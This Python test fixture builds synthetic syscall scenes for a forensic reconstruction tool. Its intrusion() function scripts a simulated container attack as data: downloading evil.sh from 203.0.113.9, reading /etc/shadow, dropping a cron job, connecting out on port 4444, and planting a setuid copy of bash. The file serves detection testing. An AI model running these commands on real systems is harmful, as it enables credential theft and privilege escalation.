"""Small scenes, written down act by act."""

from __future__ import annotations

import json
from typing import Any

import pyarrow as pa

from tiercel.reconstruct.scene import Scene
from tiercel.reconstruct.schema import ACTS, ALERTS, PROCESSES

START = 1_800_000_000_000_000_000
WEB = "3f4e9a1b7c2d"


class Stage:
    """Builds a scene: every call is one millisecond after the one before."""

    def __init__(self, host: str = "node-1") -> None:
        self.host = host
        self.ts = START
        self.processes: list[dict[str, Any]] = []
        self.acts: list[dict[str, Any]] = []
        self.alerts: list[dict[str, Any]] = []

    def tick(self, ms: int = 1) -> int:
        self.ts += ms * 1_000_000
        return self.ts

    def process(self, name: str, parent: int | None = None, **cells: Any) -> int:
        """Fork a process; without a parent it was there before the recording. Returns its row."""
        row = len(self.processes)
        above = self.processes[parent] if parent is not None else {}
        ts = self.tick()
        known = {
            "process": row,
            "host": self.host,
            "evidence": "",
            "pid": 100 + row,
            "vpid": 100 + row,
            "start": None if parent is None else ts,
            "parent": parent,
            "name": name,
            "exe": name,
            "exepath": f"/usr/bin/{name}",
            "cmdline": name,
            "cwd": "/",
            "user": above.get("user", "root"),
            "uid": above.get("uid", 0),
            "loginuid": above.get("loginuid", -1),
            "tty": above.get("tty", 0),
            "sid": above.get("sid", 1),
            "container": above.get("container", ""),
            "image": above.get("image"),
            "first_ts": ts,
            "last_ts": ts,
            "execs": [],
            "from_start": parent is None,
        }
        self.processes.append(known | cells)
        return row

    def run(self, name: str, parent: int, cmdline: str | None = None, exepath: str | None = None, **cells: Any) -> int:
        """Fork a process and let it execute a program. Returns its row; the act is the last one."""
        row = self.process(name, parent, **cells)
        self.exec(row, name, cmdline, exepath)
        return row

    def exec(self, row: int, name: str, cmdline: str | None = None, exepath: str | None = None) -> int:
        process = self.processes[row]
        process.update(name=name, cmdline=cmdline or name, exepath=exepath or f"/usr/bin/{name}")
        act = self.act("exec", row, process["exepath"], detail=process["cmdline"])
        process["execs"].append(
            {
                "ts": self.ts,
                "num": self.acts[act]["num"],
                "exepath": process["exepath"],
                "cmdline": process["cmdline"],
                "name": name,
                "uid": process["uid"],
                "user": process["user"],
            }
        )
        return act

    def act(self, kind: str, process: int, object: str | None = None, **cells: Any) -> int:
        """Add an act; returns its row."""
        ts, row, by = self.tick(), len(self.acts), self.processes[process]
        by["last_ts"] = ts
        known = {
            "act": row,
            "ts": ts,
            "num": 1000 + row,
            "host": self.host,
            "evidence": "",
            "kind": kind,
            "process": process,
            "pid": by["pid"],
            "name": by["name"],
            "user": by["user"],
            "uid": by["uid"],
            "container": by["container"],
            "object": object,
            "res": 0,
            "ok": True,
            "count": 1,
            "last_ts": ts,
        }
        self.acts.append(known | cells)
        return row

    def connect(self, process: int, raddr: str, rport: int, lport: int = 40000, **cells: Any) -> int:
        proto = cells.pop("proto", "tcp")
        laddr = "127.0.0.1" if raddr.startswith("127.") else "10.0.0.5"
        ends = {"laddr": laddr, "lport": lport, "raddr": raddr, "rport": rport, "proto": proto}
        kind = cells.pop("kind", "connect")
        return self.act(kind, process, f"{laddr}:{lport}->{raddr}:{rport}", **(ends | cells))

    def alert(self, rule: str, act: int | None, priority: str = "Warning", *tags: str, **cells: Any) -> int:
        """Raise an alert about an act; returns its row."""
        about = self.acts[act] if act is not None else {}
        row = len(self.alerts)
        known = {
            "alert": row,
            "ts": about.get("ts", self.ts),
            "num": about.get("num"),
            "host": self.host,
            "evidence": "",
            "rule": rule,
            "priority": priority,
            "source": "syscall",
            "output": f"{rule} happened",
            "output_fields": json.dumps({}),
            "tags": list(tags),
            "process": about.get("process"),
            "act": act,
            "kind": "rules",
            "truncated": False,
        }
        self.alerts.append(known | cells)
        return row

    def scene(self) -> Scene:
        return Scene(
            pa.Table.from_pylist(self.processes, schema=PROCESSES),
            pa.Table.from_pylist(self.acts, schema=ACTS),
            pa.Table.from_pylist(self.alerts, schema=ALERTS),
        )


def web_container(stage: Stage) -> tuple[int, int]:
    """A container with a web server in it; returns the rows of the machine's first process and of the server."""
    init = stage.process("systemd", pid=1)
    runc = stage.run("runc", init, f"runc run -d {WEB}")
    nginx = stage.run("nginx", runc, container=WEB, image="nginx:1.22", vpid=1)
    stage.act("listen", nginx, "0.0.0.0:80", laddr="0.0.0.0", lport=80, proto="tcp")
    return init, nginx


def intrusion(stage: Stage, init: int) -> dict[str, int]:
    """A shell executed in the container downloads a script that steals, stays, rises and deletes itself."""
    rows: dict[str, int] = {}
    runc = rows["runc"] = stage.run("runc", init, f"runc exec -t {WEB} bash")
    bash = rows["bash"] = stage.process("runc:[2:INIT]", runc, container=WEB, tty=34816, image="nginx:1.22")
    stage.act("credential", bash, "uid=0", detail="setuid")
    stage.act("mount", bash, "/proc", target="/proc")
    shell = stage.exec(bash, "bash")
    stage.alert("Terminal shell in container", shell, "Notice", "mitre_execution")
    curl = rows["curl"] = stage.run("curl", bash, "curl http://203.0.113.9/evil.sh -o /tmp/evil.sh")
    stage.act("open_read", curl, "/etc/ld.so.cache")
    stage.act("connect", curl, "/var/run/nscd/socket", proto="unix", ok=False, res=-2)
    stage.connect(curl, "203.0.113.9", 80, 40001)
    stage.connect(curl, "203.0.113.9", 80, 40001, kind="send", bytes=80)
    stage.connect(curl, "203.0.113.9", 80, 40001, kind="receive", bytes=600)
    stage.act("create", curl, "/tmp/evil.sh")
    stage.act("write", curl, "/tmp/evil.sh", bytes=400)
    chmod = rows["chmod"] = stage.run("chmod", bash, "chmod +x /tmp/evil.sh")
    stage.act("chmod", chmod, "/tmp/evil.sh", detail="a+x 0755")
    evil = rows["evil"] = stage.run("evil.sh", bash, "evil.sh /tmp/evil.sh", "/usr/bin/bash")
    cat = rows["cat"] = stage.process("evil.sh", evil)
    stage.act("create", cat, "/tmp/.s")
    stage.exec(cat, "cat", "cat /etc/shadow")
    shadow = stage.act("open_read", cat, "/etc/shadow")
    stage.alert("Read sensitive file untrusted", shadow, "Warning", "mitre_credential_access")
    stage.act("write", cat, "/tmp/.s", bytes=221)
    cron = stage.act("create", evil, "/etc/cron.d/x")
    stage.act("write", evil, "/etc/cron.d/x", bytes=26)
    stage.alert("Schedule Cron Jobs", cron, "Notice", "mitre_persistence")
    stage.connect(evil, "203.0.113.9", 4444, 40002, ok=False, res=-111)
    cp = rows["cp"] = stage.run("cp", evil, "cp /bin/bash /tmp/.b")
    stage.act("open_read", cp, "/bin/bash")
    stage.act("create", cp, "/tmp/.b")
    stage.act("write", cp, "/tmp/.b", bytes=1_265_648)
    rise = rows["rise"] = stage.run("chmod", evil, "chmod u+s /tmp/.b")
    setuid = stage.act("chmod", rise, "/tmp/.b", detail="u+s 04755")
    stage.alert("Set Setuid or Setgid bit", setuid, "Notice", "mitre_persistence", "mitre_privilege_escalation")
    rows["b"] = stage.run(".b", evil, ".b -c true", "/tmp/.b")
    stage.alert("Drop and execute new binary in container", len(stage.acts) - 1, "Critical", "mitre_persistence")
    rm = rows["rm"] = stage.run("rm", evil, "rm -f /tmp/evil.sh")
    stage.act("delete", rm, "/tmp/evil.sh")
    return rows


def attacked() -> tuple[Scene, dict[str, int]]:
    """The intrusion amid a server at work and a cron job; returns the scene and the rows of the intruder."""
    stage = Stage()
    init, nginx = web_container(stage)
    cron = stage.process("cron", init)
    job = stage.run("sh", cron, "sh -c date >> /var/log/cron.log")
    stage.act("open_write", job, "/var/log/cron.log")
    rows = intrusion(stage, init)
    stage.act("write", nginx, "/var/log/nginx/access.log", bytes=85)
    build = stage.run("gcc", init, "gcc hello.c -o hello", cwd="/home/app/")
    stage.act("create", build, "/home/app/hello")
    stage.run("hello", init, "hello", "/home/app/hello")
    return stage.scene(), rows
